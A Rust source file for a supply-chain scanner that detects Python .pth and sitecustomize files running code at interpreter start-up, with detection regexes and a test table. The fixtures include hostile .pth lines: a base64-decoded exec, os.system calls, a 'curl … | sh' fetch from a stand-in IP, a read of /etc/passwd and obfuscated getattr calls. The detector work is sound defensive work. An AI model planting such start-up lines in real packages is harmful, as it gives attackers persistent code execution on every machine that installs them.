//! `execution.pth-exec`: `.pth` files whose `import` lines run code at every
//! Python start-up (the `site` module executes any line starting with `import`).
//!
//! Judges what the line executes, not that it executes. A line of the form
//! `exec('<literal>')` is judged by the code in the literal (escapes decoded):
//!
//! | the line (and any exec'd literal) | severity |
//! |---|---|
//! | decodes, execs a non-literal, spawns a process or uses the network | Critical |
//! | reads or writes files, builds names (`getattr`, `globals`, `chr`, `\x` escapes) or carries a blob | High |
//! | a known shape: one-module imports (`import _virtualenv`, editable finders), the setuptools distutils shim, a setuptools `*-nspkg.pth` namespace line, or a start-up hook that imports a module only when an environment variable is set | Low |
//! | any other code | Medium |
//!
//! Words of the first two rows count in code only: inside a string literal of the exec'd code
//! (a message the hook prints when it fails) they are text; `__import__('<module>')`, `\x`
//! escapes and blobs count wherever they are. Path lines are ignored; a `.pth` in tests or docs weighs as test material. A setuptools
//! `*-nspkg.pth` line is recognised by its whole template (every identifier one the template
//! uses, the subpackage `setattr` included), so nothing can ride along. A shipped
//! `sitecustomize.py`/`usercustomize.py` where `site` imports it from (the archive root, a
//! wheel's `.data/purelib/`) is High; inside a package directory it runs only if a tool puts
//! that directory on the path, and is not reported.

use super::context;
use super::pysrc::{self, MAX_HITS_PER_FILE};
use crate::model::{Category, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
use regex::Regex;
use std::sync::LazyLock;

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "execution.pth-exec",
    revision: 4,
    title: "Runs code at every Python start-up through a .pth file.",
    category: Category::Execution,
    severity: Severity::High,
    description: "Executable .pth lines run in every Python process on the machine, long after install; a favourite persistence trick.",
};

static SIMPLE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^import\s+[\w.]+\s*(?:;\s*[\w.]+\.install\(\)\s*)?;?\s*$").expect("simple"));
static DISTUTILS_SHIM: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"__import__\('_distutils_hack'\)\.add_shim\(\)").expect("shim"));
static EVIL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:exec|eval|compile|b64decode|b32decode|a85decode|fromhex|unhexlify|decompress|marshal|subprocess|system|popen|urlopen|urllib|requests|socket|http\.client|Popen|codecs|rot13|rot_13)(?-u:\b)|__import__\(\s*['\x22](?:os|subprocess|base64|socket|urllib)").expect("evil")
});

/// What a start-up line may not do unless it is reviewed: touch files, build names, hide bytes.
static RISKY: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:open|write|writelines|remove|unlink|rmtree|chmod|getattr|setattr|globals|locals|vars|chr|ord|ctypes|shutil)(?-u:\b)|\\x[0-9a-fA-F]{2}|[A-Za-z0-9+/=]{80,}")
        .expect("risky")
});
/// A setuptools namespace-package line: finds its own site directory and registers a module path.
static NSPKG: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"sys\._getframe\(1\)\.f_locals\[\s*'sitedir'\s*\]").expect("nspkg"));
/// `exec('<literal>')` / `exec("<literal>")`: the code the line really runs.
static EXEC_LITERAL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?-u:\b)exec\(\s*(?:'((?:[^'\\]|\\.)*)'|"((?:[^"\\]|\\.)*)")\s*\)"#).expect("exec literal")
});

/// The escapes of a Python string literal's body that matter for reading code.
fn unescape(body: &str) -> String {
    let mut out = String::with_capacity(body.len());
    let mut chars = body.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some(q @ ('\'' | '"' | '\\')) => out.push(q),
            Some(other) => {
                out.push('\\');
                out.push(other);
            }
            None => out.push('\\'),
        }
    }
    out
}

/// The severity of one `import` line of a `.pth` file and the indicator naming why.
fn judge(line: &str, base: &str) -> (Severity, String) {
    // The code the line runs: the line without its `exec('<literal>')`, plus the literal's code.
    let (mut outer, mut inner) = (line.to_string(), String::new());
    if let Some(c) = EXEC_LITERAL.captures(line) {
        let whole = c.get(0).map_or(0..0, |m| m.range());
        outer.replace_range(whole, "_");
        inner = unescape(c.get(1).or(c.get(2)).map_or("", |m| m.as_str()));
    }
    let code = format!("{outer}\n{inner}");
    // setuptools' template (its `setattr` registers a subpackage on its parent): judged as a
    // whole, so that nothing else can ride along.
    if base.ends_with("-nspkg.pth") && is_nspkg_template(line) {
        return (Severity::Low, "import (namespace package)".to_string());
    }
    // A word inside a string literal of the code (a message printed when the hook fails: "…
    // on your system …") is text, not a call; what builds names or hides bytes counts there too
    // (`__import__('os')`, `\x` escapes, a blob).
    let lexed = pysrc::Source::python(&code);
    let counts = |m: &regex::Match<'_>| {
        lexed.is_code(m.start()) || m.as_str().starts_with("__import__") || m.as_str().starts_with('\\') || m.len() > 24
    };
    if let Some(m) = EVIL.find_iter(&code).find(counts) {
        return (Severity::Critical, format!("import … {}", m.as_str().split('(').next().unwrap_or("")));
    }
    if let Some(m) = RISKY.find_iter(&code).find(counts) {
        let what = if m.as_str().len() > 24 { "a blob" } else { m.as_str() };
        return (Severity::High, format!("import … {what}"));
    }
    let env_gated = code.contains("environ") && (code.contains("import ") || code.contains("__import__("));
    if SIMPLE.is_match(line) || DISTUTILS_SHIM.is_match(line) {
        (Severity::Low, "import".to_string())
    } else if NSPKG.is_match(line) && base.ends_with("-nspkg.pth") {
        (Severity::Low, "import (namespace package)".to_string())
    } else if env_gated {
        (Severity::Low, "import (start-up hook behind an environment variable)".to_string())
    } else {
        (Severity::Medium, "import …".to_string())
    }
}

/// Whether a `sitecustomize.py` at `path` (lower case) is where `site` imports it from: the
/// archive's root, a wheel's `.data/purelib|platlib/`, or an sdist's top directory
/// (`pkg-1.0/`). Inside a package (`pdm/pep582/sitecustomize.py`) it runs only when a
/// tool puts that directory on the path on purpose.
fn at_site_root(path: &str) -> bool {
    let inner = path.rsplit("!/").next().unwrap_or(path);
    let mut dirs: Vec<&str> = inner.split('/').collect();
    dirs.pop();
    match dirs.as_slice() {
        [] => true,
        [top] => top.rsplit_once('-').is_some_and(|(_, v)| v.starts_with(|c: char| c.is_ascii_digit())),
        [data, root] => data.ends_with(".data") && matches!(*root, "purelib" | "platlib"),
        _ => false,
    }
}

/// The identifiers setuptools' `*-nspkg.pth` template uses (old and new spellings): a line
/// made of these (strings and numbers aside) only registers a namespace package path.
const NSPKG_WORDS: &[&str] = &[
    "import",
    "sys",
    "types",
    "os",
    "has_mfs",
    "version_info",
    "p",
    "path",
    "join",
    "_getframe",
    "f_locals",
    "importlib",
    "__import__",
    "util",
    "machinery",
    "m",
    "mp",
    "modules",
    "setdefault",
    "module_from_spec",
    "PathFinder",
    "find_spec",
    "dirname",
    "ModuleType",
    "or",
    "and",
    "not",
    "in",
    "__dict__",
    "append",
    "setattr",
    "ie",
    "exists",
    "__path__",
    "None",
    "is",
];

/// A setuptools namespace-package line, in either template: every identifier is one of
/// [`NSPKG_WORDS`] once string literals are set aside.
fn is_nspkg_template(line: &str) -> bool {
    static STRING: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#"'[^'\\]*'|"[^"\\]*""#).expect("string"));
    static WORD: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"[A-Za-z_][A-Za-z0-9_]*").expect("word"));
    let code = STRING.replace_all(line, "''");
    NSPKG.is_match(line) && WORD.find_iter(&code).all(|w| NSPKG_WORDS.contains(&w.as_str()))
}

pub(crate) struct PthExec;

impl Detector for PthExec {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&["import"])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        let lower = file.path.to_ascii_lowercase();
        let base = lower.rsplit(['/', '!']).next().unwrap_or(&lower);
        if file.is_python && (base == "sitecustomize.py" || base == "usercustomize.py") && at_site_root(&lower) {
            // Imported by `site` at every start-up, like an executable .pth line.
            let mut ev = pysrc::evidence(file, 0, base.to_string());
            ev.line = Some(1);
            hits.push(&META, Hit { severity: Some(Severity::High), evidence: ev });
            return;
        }
        if !lower.ends_with(".pth") {
            return;
        }
        let mut off = 0;
        let mut n = 0;
        for line in file.text.split_inclusive('\n') {
            let start = off;
            off += line.len();
            let t = line.trim();
            if !(t.starts_with("import ") || t.starts_with("import\t")) || n >= MAX_HITS_PER_FILE {
                continue;
            }
            let (sev, ind) = judge(t, base);
            // A `.pth` kept in tests or docs (a namespace-package fixture) is not read by `site`.
            let sev = context::cap(file, sev);
            n += 1;
            let col = line.len() - line.trim_start().len();
            hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, start + col, ind) });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::FileRole::*;
    use crate::scan::detectors::testutil::table;
    use Severity::*;

    /// What setuptools writes for a namespace package (`zope`), one line.
    const NSPKG_LINE: &str = "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";

    /// The newer template's subpackage line (`google.cloud`): registers `cloud` on `google`.
    const NSPKG_SUB: &str = "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google', 'cloud'));importlib = __import__('importlib.util');__import__('importlib.machinery');m = sys.modules.setdefault('google.cloud', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google.cloud', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google.cloud', types.ModuleType('google.cloud'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);m and setattr(sys.modules['google'], 'cloud', m)\n";

    #[test]
    fn cases() {
        table(
            &PthExec,
            META.id,
            &[
                ("exec of base64", "evil.pth", InstallTime, "/some/path\nimport base64;exec(base64.b64decode('aW1wb3J0IG9z'))\n", Some((2, "import … exec", Critical))),
                ("os via __import__", "x.pth", InstallTime, "import sys; __import__('os').system('id')\n", Some((1, "import … __import__", Critical))),
                ("editable finder", "__editable__.pkg-1.0.pth", InstallTime, "import __editable___pkg_1_0_finder; __editable___pkg_1_0_finder.install()\n", Some((1, "import", Low))),
                ("distutils shim", "distutils-precedence.pth", InstallTime, "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n", Some((1, "import", Low))),
                ("other code", "x.pth", InstallTime, "import sys; sys.path.insert(0, '/opt/x')\n", Some((1, "import …", Medium))),
                ("setuptools namespace package", "zope.interface-5.0-py3.9-nspkg.pth", InstallTime, NSPKG_LINE, Some((1, "import (namespace package)", Low))),
                ("namespace shape under another name", "x.pth", InstallTime, NSPKG_LINE, Some((1, "import …", Medium))),
                ("namespace shape that also opens a file", "x-nspkg.pth", InstallTime, "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('x',));open(p + '/.x', 'w')\n", Some((1, "import … open", High))),
                ("env-gated start-up hook (coloured logging)", "coloredlogs.pth", InstallTime, "import os; exec('try: __import__(\"coloredlogs\").auto_install() if os.environ.get(\"COLOREDLOGS_AUTO_INSTALL\") else None\\nexcept ImportError: pass')\n", Some((1, "import (start-up hook behind an environment variable)", Low))),
                ("env-gated coverage-style hook", "cov.pth", InstallTime, "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from pkg_cov.embed import init\\n  init()\\n except Exception:\\n  pass\\n')\n", Some((1, "import (start-up hook behind an environment variable)", Low))),
                ("env-gated hook whose literal spawns a process", "x.pth", InstallTime, "import os; exec('if os.environ.get(\"X\"): os.system(\"curl http://203.0.113.5/p | sh\")')\n", Some((1, "import … system", Critical))),
                ("env-gated hook whose literal reads a file", "x.pth", InstallTime, "import os; exec('if os.environ.get(\"X\"): print(open(\"/etc/passwd\").read())')\n", Some((1, "import … open", High))),
                ("env-gated hook whose failure message names 'system' and 'open'", "pkg_hook.pth", InstallTime, "import os; exec(\"try:\\n  if 'PKG_HOOK' in os.environ:import pkg;pkg.hook()\\nexcept:print('Hooking pkg failed.\\\\nIf you uninstalled pkg, delete any \\'pkg_hook.pth\\' file on your system or open an issue.'); raise;\")\n", Some((1, "import (start-up hook behind an environment variable)", Low))),
                ("the same hook whose message hides a call after it", "pkg_hook.pth", InstallTime, "import os; exec(\"try:\\n  if 'PKG_HOOK' in os.environ:import pkg;pkg.hook()\\nexcept:print('on your system'); os.system('id')\")\n", Some((1, "import … system", Critical))),
                ("a message string then a getattr on it", "pkg_hook.pth", InstallTime, "import os; exec(\"n = 'sys' + 'tem'\\nif 'X' in os.environ: getattr(os, n)('id')\")\n", Some((1, "import … getattr", High))),
                ("a blob inside a string literal still counts", "pkg_hook.pth", InstallTime, "import os; exec(\"if 'X' in os.environ: import pkg; pkg.k = 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk='\")\n", Some((1, "import … a blob", High))),
                ("exec of a non-literal", "x.pth", InstallTime, "import os; exec(os.environ.get('CODE', ''))\n", Some((1, "import … exec", Critical))),
                ("paths only", "x.pth", InstallTime, "/opt/lib\n../src\n", None),
                ("python file with import", "pkg/a.py", Runtime, "import os\n", None),
                ("sitecustomize in a wheel", "sitecustomize.py", Runtime, "import os\nos.environ[\x27X\x27] = \x271\x27\n", Some((1, "sitecustomize.py", High))),
                ("sitecustomize installed from purelib", "x-1.0.data/purelib/sitecustomize.py", Runtime, "import os\n", Some((1, "sitecustomize.py", High))),
                ("sitecustomize inside a package (a tool's opt-in start-up hook)", "pdm/pep582/sitecustomize.py", Runtime, "import os\n", None),
                ("setuptools namespace subpackage line (setattr on the parent)", "functions_framework-3.1-py3.12-nspkg.pth", InstallTime, NSPKG_SUB, Some((1, "import (namespace package)", Low))),
                ("namespace template with a process riding along", "x-nspkg.pth", InstallTime, "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('x',));m and setattr(sys.modules['x'], 'y', m);os.system('id')\n", Some((1, "import … system", Critical))),
                ("namespace template with a getattr riding along", "x-nspkg.pth", InstallTime, "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('x',));getattr(os, 'sys'+'tem')('id')\n", Some((1, "import … getattr", High))),
                ("a namespace fixture in an sdist's tests", "x-1.0/tests/modules/ns_aaa-nspkg.pth", TestOrDocs, "import sys; __import__('os').system('id')\n", Some((1, "import … __import__", Medium))),
            ],
        );
    }
}
